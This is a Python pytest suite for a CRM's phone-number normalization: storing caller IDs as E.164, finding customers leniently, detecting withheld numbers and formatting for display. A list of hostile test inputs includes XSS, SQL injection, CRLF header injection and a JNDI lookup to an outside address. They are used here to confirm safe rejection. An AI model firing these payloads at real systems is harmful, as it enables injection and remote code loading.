"""Caller-ID normalization: storing typed numbers strictly, finding customers leniently."""

from __future__ import annotations

import random

import pytest

from crm_core.phones import (
    PhoneNumberError,
    display,
    is_withheld,
    lookup_candidates,
    to_e164,
)

CN_MOBILE = "+8613800138000"
CN_LANDLINE = "+861088886666"
GB_MOBILE = "+447911123456"
GB_LANDLINE = "+442079460958"
US_NUMBER = "+14155552671"
DE_NUMBER = "+49301234567"

# (raw as typed or as Asterisk delivers it, default region, E.164)
STORED_FORMS = [
    # China, mobile
    ("13800138000", "CN", CN_MOBILE),
    ("138 0013 8000", "CN", CN_MOBILE),
    ("138-0013-8000", "CN", CN_MOBILE),
    ("138.0013.8000", "CN", CN_MOBILE),
    ("+8613800138000", "CN", CN_MOBILE),
    ("+86 138 0013 8000", "CN", CN_MOBILE),
    ("(+86) 138 0013 8000", "CN", CN_MOBILE),
    ("008613800138000", "CN", CN_MOBILE),
    ("0086 138 0013 8000", "CN", CN_MOBILE),
    ("8613800138000", "CN", CN_MOBILE),
    ("013800138000", "CN", CN_MOBILE),
    ("  13800138000\n", "CN", CN_MOBILE),
    ("sip:+8613800138000@host", "CN", CN_MOBILE),
    ("sip:13800138000@10.0.0.1:5060", "CN", CN_MOBILE),
    ("SIPS:013800138000@trunk.example", "CN", CN_MOBILE),
    ('"Zhang" <sip:+8613800138000@trunk.example;user=phone>', "CN", CN_MOBILE),
    ("tel:+86-138-0013-8000", "CN", CN_MOBILE),
    ("tel:+8613800138000;phone-context=example.com", "CN", CN_MOBILE),
    ("＋８６　１３８ ００１３ ８０００", "CN", CN_MOBILE),  # full-width, as IMEs type it
    ("13800138000", "cn", CN_MOBILE),
    ("+8613800138000", "US", CN_MOBILE),
    # China, Beijing landline with the trunk prefix 0
    ("010 8888 6666", "CN", CN_LANDLINE),
    ("01088886666", "CN", CN_LANDLINE),
    ("010-88886666", "CN", CN_LANDLINE),
    ("(010) 8888-6666", "CN", CN_LANDLINE),
    ("+86 10 8888 6666", "CN", CN_LANDLINE),
    ("+86 (0)10 8888 6666", "CN", CN_LANDLINE),
    ("0086 10 8888 6666", "CN", CN_LANDLINE),
    ("861088886666", "CN", CN_LANDLINE),
    ("sip:01088886666@pbx.local", "CN", CN_LANDLINE),
    # United Kingdom
    ("07911 123456", "GB", GB_MOBILE),
    ("07911-123-456", "GB", GB_MOBILE),
    ("+44 7911 123456", "GB", GB_MOBILE),
    ("00447911123456", "GB", GB_MOBILE),
    ("447911123456", "GB", GB_MOBILE),
    ("tel:+44-7911-123456", "GB", GB_MOBILE),
    ("+44 7911 123456", "CN", GB_MOBILE),
    ("0044 7911 123456", "CN", GB_MOBILE),
    ("020 7946 0958", "GB", GB_LANDLINE),
    ("+44 (0)20 7946 0958", "GB", GB_LANDLINE),
    # United States: trunk prefix 1, international prefix 011
    ("(415) 555-2671", "US", US_NUMBER),
    ("415.555.2671", "US", US_NUMBER),
    ("4155552671", "US", US_NUMBER),
    ("1-415-555-2671", "US", US_NUMBER),
    ("14155552671", "US", US_NUMBER),
    ("+1 415 555 2671", "US", US_NUMBER),
    ("011 1 415 555 2671", "US", US_NUMBER),
    ("sip:+14155552671@sip.carrier.example", "US", US_NUMBER),
    ("001 415 555 2671", "DE", US_NUMBER),
    # Germany
    ("0049 30 1234567", "DE", DE_NUMBER),
    ("0049 30 1234567", "GB", DE_NUMBER),
    ("030 1234567", "DE", DE_NUMBER),
    ("030/1234567", "DE", DE_NUMBER),
    ("+49 30 1234567", "DE", DE_NUMBER),
    ("49301234567", "DE", DE_NUMBER),
]

WITHHELD = [
    None,
    "",
    "   ",
    "anonymous",
    "Anonymous",
    "ANONYMOUS",
    "unknown",
    "Unknown",
    "<unknown>",
    "restricted",
    "Restricted",
    "private",
    "Private Number",
    "withheld",
    "unavailable",
    "Unavailable",
    "asterisk",
    "0",
    "00",
    "+0",
    "0000000000",
    "-",
    "+",
    "sip:anonymous@anonymous.invalid",
    "<sip:anonymous@anonymous.invalid>",
    '"Anonymous" <sip:anonymous@anonymous.invalid>',
    "sip:anonymous@192.0.2.10",  # digits only in the host
    "sip:192.0.2.10",  # a host, no user part
    "sip:restricted@203.0.113.5:5060",
    "tel:",
    "tel:anonymous",
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<b>13800138000</b>",
    "'; DROP TABLE customers; --",
    "13800138000' OR '1'='1",
    "13800138000\r\nX-Injected: 1",
    "13800138000\n13900139000",
    "13800138000\x00",
    "\x00",
    "138\x000138000",
    "\x1b[31m13800138000",
    "%00%0d%0a",
    "${jndi:ldap://203.0.113.1/a}",
    "{{7*7}}",
    "\u202e0008310083168+",
    "\ud800\udfff",
    "\U0001f4de 13800138000 \U0001f4de",
    "1" * 1_000_000,
    "+" * 1_000_000,
    "13800138000" + " " * 1_000_000,
    " " * 1_000_000 + "13800138000",
    "\x00" * 1_000_000,
    "sip:" + "1" * 10_000 + "@host",
    "sip:13800138000@" + "h" * 1_000_000,
    "1" * 65,
    "١٣٨٠٠١٣٨٠٠٠",  # Arabic-Indic digits: phonenumbers reads them as digits
    "13800138000 ext. 5",
    "+999 1234 5678",
]


def _is_e164(value: str) -> bool:
    return value.startswith("+") and value[1:].isascii() and value[1:].isdigit()


def _store(raw: str, region: str) -> str | PhoneNumberError:
    """to_e164's result, or the PhoneNumberError it raised (anything else propagates)."""
    try:
        return to_e164(raw, region)
    except PhoneNumberError as exc:
        return exc


@pytest.mark.parametrize(("raw", "region", "expected"), STORED_FORMS)
def test_to_e164_stores_every_form(raw: str, region: str, expected: str) -> None:
    assert to_e164(raw, region) == expected


@pytest.mark.parametrize(("raw", "region", "expected"), STORED_FORMS)
def test_lookup_finds_every_form_first(raw: str, region: str, expected: str) -> None:
    candidates = lookup_candidates(raw, region)
    assert candidates[0] == expected
    assert len(candidates) == len(set(candidates))
    assert all(_is_e164(c) for c in candidates)


@pytest.mark.parametrize(("raw", "region", "expected"), STORED_FORMS)
def test_to_e164_and_lookup_agree(raw: str, region: str, expected: str) -> None:
    assert to_e164(raw, region) == lookup_candidates(raw, region)[0] == expected
    # What was stored is found again when the trunk delivers the stored form itself.
    assert lookup_candidates(to_e164(raw, region), region)[0] == expected


@pytest.mark.parametrize("raw", WITHHELD)
def test_withheld_numbers(raw: str | None) -> None:
    assert is_withheld(raw)
    assert lookup_candidates(raw, "CN") == []


@pytest.mark.parametrize("raw", [r for r in WITHHELD if r is not None])
def test_withheld_numbers_cannot_be_stored(raw: str) -> None:
    with pytest.raises(PhoneNumberError, match="withheld"):
        to_e164(raw, "CN")


@pytest.mark.parametrize(
    "raw",
    ["13800138000", "+8613800138000", "sip:+8613800138000@host", "10", "anonymous1", "0-0-1"],
)
def test_numbers_with_digits_are_not_withheld(raw: str) -> None:
    assert not is_withheld(raw)


@pytest.mark.parametrize(
    ("raw", "region", "reason"),
    [
        ("12", "CN", "too short"),
        ("1380013800013800138000", "CN", "too long"),
        ("555 2671", "US", "area code is missing"),
        ("7946 0958", "GB", "area code is missing"),
        ("13800138000 ext. 5", "CN", "extension"),
        ("13800138000", "ZZ", "region"),  # ZZ: no home region, only "+" numbers
        ("13800138000", "", "region"),
        ("+999 1234 5678", "CN", "country code"),
        ("call me at 5", "CN", "not a phone number"),
        ("0049 30 1234567", "US", "too long"),  # 00 is not the US international prefix
        ("1" * 300, "CN", "too long"),
    ],
)
def test_to_e164_rejects_with_a_reason(raw: str, region: str, reason: str) -> None:
    with pytest.raises(PhoneNumberError, match=reason):
        to_e164(raw, region)


def test_phone_number_error_is_a_value_error() -> None:
    with pytest.raises(ValueError, match="withheld"):
        to_e164("anonymous", "CN")


@pytest.mark.parametrize(
    ("raw", "region", "expected"),
    [
        # An international number that lost its "+": the home reading stays first.
        ("447911123456", "CN", ["+86447911123456", GB_MOBILE]),
        # Digits that start with the country code: national (area code 04939) or not.
        ("4939150008", "DE", ["+494939150008", "+4939150008"]),
        # No home region: only international readings.
        ("8613800138000", "ZZ", [CN_MOBILE]),
        ("+8613800138000", "ZZ", [CN_MOBILE]),
        # A home reading that is not even possible is left out.
        ("4479111234567", "CN", []),
        ("442079460958", "US", [GB_LANDLINE]),
        # An extension does not stop a caller from being found.
        ("13800138000 ext. 5", "CN", [CN_MOBILE]),
        # 00 is not the US international prefix; it is not guessed.
        ("0049 30 1234567", "US", []),
    ],
)
def test_lookup_offers_other_readings(raw: str, region: str, expected: list[str]) -> None:
    assert lookup_candidates(raw, region) == expected


@pytest.mark.parametrize("raw", ["913800138000", "9 013800138000", "0913800138000"])
def test_lookup_does_not_strip_outside_line_digits(raw: str) -> None:
    assert CN_MOBILE not in lookup_candidates(raw, "CN")


@pytest.mark.parametrize("raw", ["12", "110", "10086", "555 2671"])
def test_lookup_skips_numbers_that_could_not_be_stored(raw: str) -> None:
    assert lookup_candidates(raw, "US" if " " in raw else "CN") == []


@pytest.mark.parametrize("raw", HOSTILE)
def test_hostile_input_is_handled(raw: str) -> None:
    candidates = lookup_candidates(raw, "CN")
    assert isinstance(candidates, list)
    assert all(_is_e164(c) for c in candidates)
    assert isinstance(is_withheld(raw), bool)
    assert isinstance(display(raw, "CN"), str)
    stored = _store(raw, "CN")
    if isinstance(stored, PhoneNumberError):
        assert len(str(stored)) < 100  # says why without echoing the input
    else:
        assert stored == candidates[0]


@pytest.mark.parametrize(
    "raw",
    [
        "13800138000\r\nX-Injected: 1",
        "13800138000\x00",
        "138\x000138000",
        "1" * 1_000_000,
        "13800138000" + " " * 1_000_000,
        "sip:13800138000@" + "h" * 1_000_000,
        "<b>13800138000</b>",
        "13800138000' OR '1'='1",
    ],
)
def test_hostile_input_finds_nobody_and_stores_nothing(raw: str) -> None:
    assert lookup_candidates(raw, "CN") == []
    with pytest.raises(PhoneNumberError):
        to_e164(raw, "CN")


def _mutate(rng: random.Random, text: str, alphabet: str) -> str:
    """``text`` with a few characters inserted, deleted or replaced."""
    chars = list(text)
    for _ in range(rng.randint(0, 3)):
        at = rng.randint(0, len(chars))
        action = rng.choice(["insert", "delete", "replace"])
        if action == "insert" or at == len(chars):
            chars.insert(at, rng.choice(alphabet))
        elif action == "delete":
            del chars[at]
        else:
            chars[at] = rng.choice(alphabet)
    return "".join(chars)


def test_random_input_keeps_the_contract() -> None:
    """Seeded fuzz: only PhoneNumberError escapes, and storing and finding always agree."""
    rng = random.Random(20240229)
    alphabet = "0123456789" * 4 + "+-.() /#*;:@<>\"'xX\r\n\t\x00\u3000\uff10\uff0b\u0661sipteal"
    stored_count = 0
    for i in range(4000):
        if i % 2:
            raw = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 30)))
        else:
            raw = _mutate(rng, rng.choice(STORED_FORMS)[0], alphabet)
        region = rng.choice(["CN", "GB", "US", "DE", "ZZ"])
        candidates = lookup_candidates(raw, region)
        assert all(_is_e164(c) for c in candidates)
        assert len(candidates) == len(set(candidates))
        if is_withheld(raw):
            assert candidates == []
        stored = _store(raw, region)
        if isinstance(stored, str):
            assert stored == candidates[0], raw
            stored_count += 1
    assert stored_count > 500  # the agreement above was really exercised


def test_ten_thousand_caller_ids() -> None:
    """A sanity pass over many numbers in every delivered form (no timing is asserted)."""
    rng = random.Random(7)
    forms = ["{n}", "+86{n}", "0086{n}", "86{n}", "0{n}", "sip:+86{n}@trunk", "tel:+86-{n}"]
    for i in range(10_000):
        national = f"13{rng.randint(0, 9)}{i:08d}"
        raw = rng.choice(forms).format(n=national)
        assert lookup_candidates(raw, "CN")[0] == f"+86{national}", raw


def test_functions_are_pure() -> None:
    """No state is shared between calls: order, region and earlier results do not matter."""
    alone = lookup_candidates("447911123456", "GB")
    lookup_candidates("447911123456", "CN")
    lookup_candidates("4939150008", "DE")
    to_e164("010 8888 6666", "CN")
    assert lookup_candidates("447911123456", "GB") == alone == [GB_MOBILE]

    first = lookup_candidates("13800138000", "CN")
    first.append("+10000000000")
    first.clear()
    assert lookup_candidates("13800138000", "CN") == [CN_MOBILE]


def test_a_number_shared_by_customers_normalizes_the_same() -> None:
    """Two customers typing one number differently store the same value: the CRM sees both."""
    typed = ["138 0013 8000", "+86 138-0013-8000", "0086 13800138000", "013800138000"]
    assert {to_e164(raw, "CN") for raw in typed} == {CN_MOBILE}


@pytest.mark.parametrize(
    ("e164", "region", "expected"),
    [
        (CN_MOBILE, "CN", "138 0013 8000"),
        (CN_LANDLINE, "CN", "010 8888 6666"),
        (CN_MOBILE, "cn", "138 0013 8000"),
        (CN_MOBILE, "US", "+86 138 0013 8000"),
        (GB_MOBILE, "GB", "07911 123456"),
        (GB_LANDLINE, "GB", "020 7946 0958"),
        (US_NUMBER, "US", "(415) 555-2671"),
        (US_NUMBER, "GB", "+1 415-555-2671"),
        (DE_NUMBER, "DE", "030 1234567"),
        (DE_NUMBER, "GB", "+49 30 1234567"),
        (CN_MOBILE, "ZZ", "+86 138 0013 8000"),
    ],
)
def test_display(e164: str, region: str, expected: str) -> None:
    assert display(e164, region) == expected
    assert to_e164(display(e164, region), region.upper()) == e164


@pytest.mark.parametrize("value", ["", "garbage", "<script>", "1" * 1000])
def test_display_returns_unparseable_values_unchanged(value: str) -> None:
    assert display(value, "CN") == value
